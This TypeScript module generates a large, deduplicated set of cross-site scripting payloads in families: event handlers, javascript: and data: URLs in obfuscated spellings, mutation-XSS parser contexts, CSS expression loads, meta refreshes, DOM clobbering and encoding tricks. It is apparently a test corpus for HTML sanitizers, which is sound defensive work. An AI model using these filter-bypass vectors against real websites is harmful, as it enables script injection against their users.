/** Attacks made from parts, in families: each pairs every one of two kinds of part with each other and deals the other parts in turn. Always the same ones. */

const words = (list: string): string[] => list.split(' ');
/** The part that comes after `step` others, from the start again at the end. */
const turn = <T>(parts: readonly [T, ...T[]], step: number): T => parts[step % parts.length] ?? parts[0];
const pairs = <A, B, C>(first: readonly A[], second: readonly B[], join: (a: A, b: B, step: number) => C): C[] => first.flatMap((a, i) => second.map((b, j) => join(a, b, i * second.length + j + i)));

const code: [string, ...string[]] = ['alert(1)', 'top.said=1', 'import(name)', 'self[`al`+`ert`](1)'];
/** Elements on which a handler is called, from those of an article to those a filter has never heard of. */
const elements: [string, ...string[]] = ['p', ...words('a img div span table td blockquote li h1 q del time details summary svg math body html video audio input button select textarea form iframe object embed marquee dialog meter keygen slot isindex x-pier o:p image frameset style link')];
const handlers: [string, ...string[]] = ['onclick', ...words('onerror onload onfocus onblur onmouseover onpointerrawupdate ontoggle onbeforetoggle onbeforematch oncontentvisibilityautostatechange onscrollend onscrollsnapchange onanimationstart onwebkitanimationend onwebkittransitionend oncancel oncommand onfocusin onbegin onrepeat oncopy onpaste onformdata onsecuritypolicyviolation onunhandledrejection onmessageerror onhashchange onpageshow ongesturestart onreadystatechange onpropertychange onlayoutcomplete onrowinserted onmozfullscreenchange on- on: onx onClick oNeRRoR onſubmit')];
/** What stands between the name of an element and an attribute. */
const separators: [string, ...string[]] = [' ', '/', '//', '\t', '\n', '\r', '\f', ' / ', '/\n/', ' x ', ' x=">" ', " x='' ", ' ""', ' <', ' =', '\0', '\v ', '\u00a0 ', '/x=/', ' x=`>` '];
/** The ways to write an attribute with a value, good and bad. */
const quotings: [(name: string, value: string) => string, ...((name: string, value: string) => string)[]] = [
  (name, value) => `${name}="${value}"`, (name, value) => `${name}='${value}'`, (name, value) => `${name}=${value}`, (name, value) => `${name}=\`${value}\``,
  (name, value) => `${name} = "${value}"`, (name, value) => `${name}\n=\n'${value}'`, (name, value) => `${name}\f=${value}`, (name, value) => `${name}="${value}`, (name, value) => `${name}=${value}//`,
  (name, value) => `${name}="${value}"title="x"`, (name, value) => `title="x"${name}="${value}"`, (name, value) => `title='">'${name}='${value}'`, (name, value) => `${name}="x" ${name}="${value}"`,
  (name, value) => `${name}=&#34;${value}&#34;`, (name, value) => `${name}="&#x9;${value.replace(/\(/g, '&lpar;')}"`, (name, value) => `${name.toUpperCase()}=${value}`, (name, value) => `"${name}"=${value} ${name}=${value}`, (name, value) => `${name}=${value} <`,
];
const attributes = [
  ...pairs(elements, separators, (element, separator, step) => `<${element}${separator}${turn(quotings, step)(turn(handlers, step * 7), turn(code, step))}>x`),
  ...pairs(handlers, quotings, (handler, quote, step) => `<${turn(elements, step * 5)} ${quote(handler, turn(code, step))}>x</${turn(elements, step * 5)}>`),
];

/** Addresses that run, or load what runs. */
const addresses: [string, ...string[]] = [
  'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>',
  'javascript://harbour.example/%0aalert(1)', 'data:application/xhtml+xml,<x/>', 'livescript:alert(1)', 'mocha:alert(1)', 'blob:https://harbour.example/1', 'filesystem:https://harbour.example/1', 'file:///etc/passwd', 'about:blank', 'feed:javascript:alert(1)', 'view-source:data:text/html,x', 'ms-its:a.chm::/b', 'intent://x#Intent;end', 'tel:1', 'urn:x',
];
const numbers = (text: string, write: (code: number) => string): string => [...text].map((letter) => write(letter.charCodeAt(0))).join('');
const scheme = (address: string, write: (name: string, at: number) => string): string => write(address, address.indexOf(':'));
/** The ways to write an address that browsers have taken for the same, or that a reader of filters might. */
const spellings: [(address: string) => string, ...((address: string) => string)[]] = [
  (address) => address, (address) => scheme(address, (all, at) => all.slice(0, at).toUpperCase() + all.slice(at)), (address) => `  \n ${address}`, (address) => `\u0001\u001f${address}`, (address) => `\0${address}`, (address) => `\ufeff${address}`, (address) => `\u00a0${address}`, (address) => `\u200b${address}`,
  (address) => address.replace(/^../, '$&\t'), (address) => address.replace(/^../, '$&\n'), (address) => address.replace(/^../, '$&\r\n'), (address) => address.replace(/^../, '$&\0'), (address) => address.replace(/^../, '$&&#9;'), (address) => address.replace(/^../, '$&&Tab;&NewLine;'), (address) => address.replace(/^../, '$&\u00ad'), (address) => address.replace(/^../, '$&<!-- -->'),
  (address) => address.replace(':', '&colon;'), (address) => address.replace(':', '&#58'), (address) => address.replace(':', '&#x0003A;'), (address) => address.replace(':', '\t:'), (address) => address.replace(':', '%3A'), (address) => address.replace(':', '：'), (address) => address.replace(':', '&amp;colon;'),
  (address) => scheme(address, (all, at) => numbers(all.slice(0, at), (letter) => `&#${letter};`) + all.slice(at)), (address) => scheme(address, (all, at) => numbers(all.slice(0, at), (letter) => `&#x${letter.toString(16).padStart(6, '0')}`) + all.slice(at)), (address) => scheme(address, (all, at) => numbers(all.slice(0, at), (letter) => `&#0000${letter}`) + all.slice(at)),
  (address) => scheme(address, (all, at) => numbers(all.slice(0, at), (letter) => `&amp;#${letter};`) + all.slice(at)), (address) => scheme(address, (all, at) => numbers(all.slice(0, at), (letter) => `%${letter.toString(16)}`) + all.slice(at)), (address) => scheme(address, (all, at) => numbers(all.slice(0, at), (letter) => `\\u00${letter.toString(16)}`) + all.slice(at)),
  (address) => `&#1;${address}`, (address) => `&nbsp;${address}`, (address) => `https:${address}`, (address) => `/${address}`, (address) => `x&#0;${address}`,
];
/** The places of an address. */
const places: [(address: string) => string, ...((address: string) => string)[]] = [
  (address) => `<a href="${address}">x</a>`, (address) => `<a href='${address}'>x</a>`, (address) => `<a href=${address.replace(/[\s>]/g, '')}>x</a>`, (address) => `<a href=\`${address}\`>x</a>`, (address) => `<a/href="${address}" target=_blank>x`, (address) => `<a href="#" href="${address}">x`, (address) => `<a\thref\n=\r"${address}">x`,
  (address) => `<img src="${address}">`, (address) => `<img/src='${address}'/alt=x>`, (address) => `<image href="${address}">`, (address) => `<img lowsrc="${address}" dynsrc="${address}">`, (address) => `<blockquote cite="${address}">x`, (address) => `<q cite='${address}'>x</q>`, (address) => `<del cite="${address}">x</del>`,
  (address) => `<iframe src="${address}"></iframe>`, (address) => `<embed src="${address}">`, (address) => `<object data="${address}"></object>`, (address) => `<object><param name=movie value="${address}"></object>`, (address) => `<applet codebase="${address}" code=x></applet>`, (address) => `<frameset><frame src="${address}"></frameset>`,
  (address) => `<form action="${address}"><input type=submit></form>`, (address) => `<button formaction="${address}">x</button>`, (address) => `<input type=image src=x formaction="${address}">`, (address) => `<base href="${address}"><a href="x">x</a>`, (address) => `<link rel=stylesheet href="${address}">`, (address) => `<link rel=import href='${address}'>`, (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<script src="${address}"></script>`, (address) => `<video poster="${address}"><source src="${address}"></video>`, (address) => `<audio src="${address}"><track src="${address}"></audio>`, (address) => `<map name=m><area href="${address}"></map><img usemap=#m>`, (address) => `<table background="${address}"><td background="${address}">x`, (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}#x"/></svg>`, (address) => `<svg><image xlink:href='${address}'/></svg>`, (address) => `<svg><a><animate attributeName=href values="${address}"/><text>x</text></a></svg>`, (address) => `<svg><script href="${address}"/></svg>`, (address) => `<math href="${address}">x</math>`, (address) => `<math><mi xlink:href="${address}">x</mi></math>`, (address) => `<bgsound src="${address}">`, (address) => `<portal src="${address}"></portal>`, (address) => `<isindex action="${address}" type=image>`,
];
const inDoubleQuotes = (address: string): string => address.replace(/"/g, '&quot;');
const urls = [
  ...pairs(places, spellings, (place, spell, step) => place(inDoubleQuotes(spell(turn(addresses, step * 7))))),
  ...pairs(addresses, spellings, (address, spell, step) => turn([turn(places, 0), turn(places, 7), turn(places, 11)], step)(inDoubleQuotes(spell(address)))),
];

/** Something alive: what all the tricks below try to bring through. */
const alive: [string, ...string[]] = ['<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<svg onload=alert(1)>', '<a href=javascript:alert(1)>x</a>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<p style="behavior:url(x)">x', '<details open ontoggle=alert(1)>', '<math><mi href="data:text/html,x">x</mi></math>'];

/** Beginnings behind which a text is read by other rules, each with what ends them. */
const contexts: readonly (readonly [open: string, close: string])[] = [
  ['<svg><style>', '</style>'], ['<svg><title>', '</title>'], ['<svg><desc>', '</desc>'], ['<svg><foreignObject><p>', '</foreignObject>'], ['<svg><p><style>', '</style>'], ['<svg></p><style>', '</style>'], ['<svg><textarea>', '</textarea>'], ['<svg><noscript>', '</noscript>'], ['<svg><xmp>', '</xmp>'],
  ['<math><style>', '</style>'], ['<math><mtext>', '</mtext>'], ['<math><mi><table>', '</table>'], ['<math><mtext><mglyph><style>', '</style>'], ['<math><mtext><table><mglyph><style>', '</style>'], ['<math><annotation-xml encoding="text/html"><style>', '</style>'], ['<math><annotation-xml encoding="application/xhtml+xml"><svg><title>', '</title>'], ['<math><annotation-xml><desc>', '</desc>'],
  ['<form><math><mtext></form><form><mglyph><style>', '</style>'], ['<form><form><select>', '</select>'], ['<select><template><style>', '</style>'], ['<select><option><textarea>', '</textarea>'], ['<template><style>', '</style>'], ['<table><template><tr>', '</template>'], ['<table><caption><svg><title>', '</title>'], ['<table><tr><style>', '</style>'], ['<table><a href="https://harbour.example"><tr>', '</a>'],
  ['<noscript>', '</noscript>'], ['<noscript><style>', '</noscript>'], ['<title>', '</title>'], ['<textarea>', '</textarea>'], ['<xmp>', '</xmp>'], ['<noembed>', '</noembed>'], ['<noframes>', '</noframes>'], ['<iframe>', '</iframe>'], ['<style>', '</style>'], ['<script>', '</script>'], ['<plaintext>', '</plaintext>'], ['<object>', '</object>'], ['<select>', '</select>'], ['<p><svg><desc><b>', '</b>'],
];
/** Where the end of a context and what is alive behind it can hide. */
const hidings: readonly ((close: string, payload: string) => string)[] = [
  (close, payload) => `${close}${payload}`, (close, payload) => `<a title="${close}${payload.replace(/"/g, "'")}">x</a>`, (close, payload) => `<p id='${close}${payload.replace(/'/g, '"')}'>x`, (close, payload) => `<!--${close}${payload}-->`, (close, payload) => `<!--><p title="-->${close}${payload}">`, (close, payload) => `<!-- --!>${close}${payload}<!--`, (close, payload) => `<![CDATA[${close}${payload}]]>`, (close, payload) => `<![CDATA[>]]>${close}${payload}`,
  (close, payload) => `<?x ${close}${payload}?>`, (close, payload) => `<!doctype "${close}${payload}">`, (close, payload) => `</ ${close}${payload}>`, (close, payload) => `</x y="${close}${payload}">`, (close, payload) => `<style><!--${close}${payload}--></style>`, (close, payload) => `<img alt="${close}`.concat(`"${payload}`), (close, payload) => `${close.slice(0, -1)} x="${payload}">${payload}`, (close, payload) => `&lt;${close}${payload.replace(/</g, '&lt;')}`,
];
const smuggled = pairs(contexts, hidings, ([open, close], hide, step) => open + hide(close, turn(alive, step)));

/** Styles that load or run, in the spellings that filters of styles have missed. */
const styles = ['background:url(javascript:alert(1))', 'background-image:\\75\\72\\6c(javascript:alert(1))', 'width:expression(alert(1))', 'width:exp/**/ression(alert(1))', 'width:e\\78 pression(alert(1))', '-moz-binding:url(//x.example/a#b)', 'behavior:url(a.htc)', "list-style:url('data:text/html,x')", "@import'//x.example/a.css'", 'x:&quot;&lt;/style&gt;', 'position:fixed;inset:0', 'color:var(--x);--x:url(//x.example)', 'content:&quot;\\3c script\\3e&quot;', 'cursor:image-set(&quot;//x.example&quot; 1x)', '\0width:ｅｘｐｒｅｓｓｉｏｎ(alert(1))'];
const styled: [(style: string) => string, ...((style: string) => string)[]] = [(style) => `<p style="${style}">x`, (style) => `<a/STYLE='${style}'>x</a>`, (style) => `<td style = "${style}">x`, (style) => `<style>p{${style}}</style>`, (style) => `<svg><style>*{${style}}</style></svg>`, (style) => `<link rel=stylesheet href="data:text/css,*{${style}}">`, (style) => `<x-pier style=\`${style}\`>x`];
/** Attributes that load, send or run by themselves. */
const loading = words('srcset imagesrcset srcdoc formaction action xlink:href href:xlink xml:base xmlns:xlink ping poster background dynsrc lowsrc data code classid codebase archive manifest profile longdesc usemap icon from to values by is slot contenteditable autofocus accesskey tabindex http-equiv popovertarget commandfor attributionsrc nonce class target');
const values: [string, ...string[]] = ['javascript:alert(1)', '//x.example/a 1x, data:image/svg+xml,x 2x', '&lt;script&gt;alert(1)&lt;/script&gt;', 'https://x.example/a'];
const refreshes = ['0;url=javascript:alert(1)', '0;javascript:alert(1)', "0 , URL='data:text/html,x'", '&#48;;u&#x72;l=//x.example', '0\n;url\t=\tvbscript:x', '9;//x.example'];
const loads = [
  ...pairs(styled, styles, (write, style) => write(style)),
  ...pairs(loading, ['p', 'a', 'img', 'table', 'blockquote', 'button', 'svg', 'iframe', 'object', 'link'], (name, element, step) => `<${element} ${turn(quotings, step)(name, turn(values, step))}>x`),
  ...pairs(refreshes, ['refresh', 'REFRESH', 'ref&#114;esh', 'Set-Cookie', 'Content-Security-Policy', 'Link'], (content, name) => `<meta http-equiv="${name}" content="${content}">`),
];

/** Names by which an element can stand in for what a script looks up on its page. */
const looked = words('location document cookie body head forms attributes parentNode childNodes nodeName innerHTML getElementById createElement constructor __proto__ prototype toString valueOf currentScript defaultView domain self top config endpoint refreshToken references referrer notes citeproc footer');
const named: [(name: string) => string, ...((name: string) => string)[]] = [
  (name) => `<a id="${name}" href="https://x.example">x</a>`, (name) => `<a id=${name}></a><a id=${name} name=src href='https://x.example'>x</a>`, (name) => `<a name='${name}'>x</a>`, (name) => `<p id="${name}">x`, (name) => `<li id=${name}>x`, (name) => `<sup ID="${name}">x</sup>`, (name) => `<img name="${name}" src="https://x.example/a.png">`, (name) => `<img id=${name} src=x>`,
  (name) => `<form id="${name}"><input name="${name}"></form>`, (name) => `<form><button name=${name}>x`, (name) => `<iframe name="${name}" srcdoc="x"></iframe>`, (name) => `<object id="${name}" data=x></object>`, (name) => `<embed name=${name}>`, (name) => `<svg id="${name}">`, (name) => `<h2 id="${name}">x</h2>`,
];
const names = pairs(named, looked, (write, name) => write(name));

/** Other letters and codes for the same markup: what a text becomes that is decoded once more, folded, or read in another charset. */
const encodings: readonly ((payload: string) => string)[] = [
  (payload) => payload.replace(/</g, '&lt;'), (payload) => payload.replace(/</g, '&LT').replace(/>/g, '&GT'), (payload) => payload.replace(/</g, '&#60').replace(/>/g, '&#62'), (payload) => payload.replace(/</g, '&#x000003c;'), (payload) => payload.replace(/</g, '&amp;lt;').replace(/>/g, '&amp;gt;'), (payload) => payload.replace(/</g, '&amp;amp;#60;'), (payload) => encodeURIComponent(payload),
  (payload) => payload.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'), (payload) => payload.replace(/</g, '\u00bc').replace(/>/g, '\u00be'), (payload) => payload.replace(/</g, '＜').replace(/>/g, '＞'), (payload) => payload.replace(/</g, '\u2039').replace(/>/g, '\u203a'), (payload) => payload.replace(/</g, '\u00c0\u00bc'), (payload) => payload.replace(/</g, '<\0'), (payload) => payload.replace(/<../, '$&\0'),
  (payload) => payload.replace(/</g, '\ufeff<'), (payload) => payload.replace(/<(?!\/)/g, '<\u200b'), (payload) => payload.replace(/s/g, 'ſ').replace(/k/g, 'K').replace(/i/g, 'ı'), (payload) => payload.replace(/</g, '\ud800<\udc00'), (payload) => `\u001b$@${payload}\u001b(B`, (payload) => `~{${payload}~}`, (payload) => `<meta charset=utf-7>${payload.replace(/</g, '+ADw-')}${payload}`, (payload) => `<?xml version="1.0" encoding="utf-16"?>${payload}`,
  (payload) => payload.replace(/</g, '<<'), (payload) => payload.replace(/<(?!\/)/g, '</x/><'), (payload) => payload.replace(/>/g, ''), (payload) => payload.replace(/<(\w+)/, '<$1<$1'), (payload) => payload.replace(/<(\w)(\w*)/, '<$1<$1$2>$2'), (payload) => `&#x110000;&#0;&#xd800;${payload}`, (payload) => `"'>--></style></title></textarea></script>${payload}`, (payload) => payload.toUpperCase(), (payload) => payload.replace(/ /g, '\u00a0'), (payload) => payload.replace(/</g, '%3C').replace(/>/g, '&gt'),
];
const encoded = pairs(encodings, alive, (encode, payload) => encode(payload));

/** The attacks, each once, by what they try. */
export const families: Readonly<Record<string, readonly string[]>> = Object.fromEntries(Object.entries({
  'handlers of events': attributes, 'addresses that run': urls, 'markup that is read by other rules': smuggled, 'what loads or styles by itself': loads, 'names that scripts look up': names, 'other codes for the same': encoded,
}).map(([family, vectors]) => [family, [...new Set(vectors)]]));
